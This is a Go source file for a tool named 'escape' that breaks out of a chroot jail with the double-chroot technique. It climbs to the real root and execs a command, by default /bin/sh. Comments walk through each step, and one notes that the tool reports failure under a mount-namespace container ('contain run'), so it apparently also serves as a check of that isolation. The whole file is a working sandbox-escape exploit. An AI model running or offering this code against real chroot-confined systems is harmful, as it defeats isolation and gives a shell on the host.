// Command escape breaks out of a chroot(2) jail and runs a command in the
// real root. It is the classic double-chroot escape that chroot(2) itself
// warns about ("This call does not change the current working directory, so
// that after the call '.' can be outside the tree rooted at '/'").
//
// usage: escape [CMD [ARG...]]     (default: /bin/sh)
//
// It needs CAP_SYS_CHROOT, which root inside a plain chroot still has. Under
// `contain run` (a mount namespace and pivot_root) the same steps only reach
// the container's own root, and escape says so and exits with status 1.
// Either way it leaves nothing behind: its scratch directory is removed
// before it climbs.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"syscall"

	"golang.org/x/sys/unix"
)

// breakOut moves the process's root to the topmost directory it can reach.
// The steps, in order:
//
//  1. chdir to a writable directory and mkdir a scratch directory in it.
//  2. chroot(2) into the scratch directory. The kernel changes the root but
//     not the working directory, so "." is now outside the root.
//  3. rmdir the scratch directory, by its name relative to ".", which still
//     reaches it. Nothing is left in the jail; the root is now a deleted
//     directory, which is fine, since we are leaving it.
//  4. chdir("..") many times. The kernel stops ".." only at the process's
//     root and at the root of the mount namespace (path_resolution(7)); we
//     are outside the first, so this climbs to the second, the real "/".
//  5. chroot(".") makes that directory the root again.
func breakOut() error {
	// /tmp may be missing or read-only; any writable directory works.
	var scratch string
	var err error
	for _, dir := range []string{"/tmp", "/"} {
		if err = unix.Chdir(dir); err != nil {
			continue
		}
		if scratch, err = os.MkdirTemp(".", "escape-"); err == nil {
			break
		}
	}
	if err != nil {
		return fmt.Errorf("mkdir scratch directory: %w", err)
	}
	if err := unix.Chroot(scratch); err != nil {
		unix.Rmdir(scratch)
		return fmt.Errorf("chroot %s: %w", scratch, err)
	}
	if err := unix.Rmdir(scratch); err != nil {
		return fmt.Errorf("rmdir %s: %w", scratch, err)
	}
	for i := 0; i < 256; i++ {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	return nil
}

// rootID names the directory that "/" is, by device and inode.
func rootID() (string, error) {
	var st unix.Stat_t
	if err := unix.Stat("/", &st); err != nil {
		return "", err
	}
	return fmt.Sprintf("%d:%d", st.Dev, st.Ino), nil
}

// fail prints one line and exits with status code.
func fail(code int, format string, args ...any) {
	fmt.Fprintf(os.Stderr, "escape: "+format+"\n", args...)
	os.Exit(code)
}

func main() {
	argv := os.Args[1:]
	if len(argv) == 0 {
		argv = []string{"/bin/sh"}
	}
	before, err := rootID()
	if err != nil {
		fail(1, "stat /: %v", err)
	}
	if err := breakOut(); err != nil {
		fail(1, "%v", err)
	}
	after, err := rootID()
	if err != nil {
		fail(1, "stat /: %v", err)
	}
	if before == after {
		fail(1, "failed: .. stops at this root, there is nothing above it")
	}
	fmt.Fprintln(os.Stderr, "escape: out of the chroot, running", argv[0], "in the real root")
	// Look the command up only now: "/" has changed, and so has what PATH
	// names.
	path, err := exec.LookPath(argv[0])
	if err != nil {
		fail(127, "%v", err)
	}
	err = syscall.Exec(path, argv, os.Environ())
	fail(127, "exec %s: %v", argv[0], err)
}
